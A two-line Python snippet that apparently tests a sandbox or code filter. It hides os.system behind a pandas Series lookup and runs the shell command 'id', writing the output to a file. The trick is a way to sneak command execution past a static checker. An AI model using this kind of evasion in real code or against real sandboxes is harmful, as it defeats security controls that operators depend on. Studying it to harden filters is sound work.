import pandas as pd, os
pd.Series({"a": os})["a"].system("id>pf")
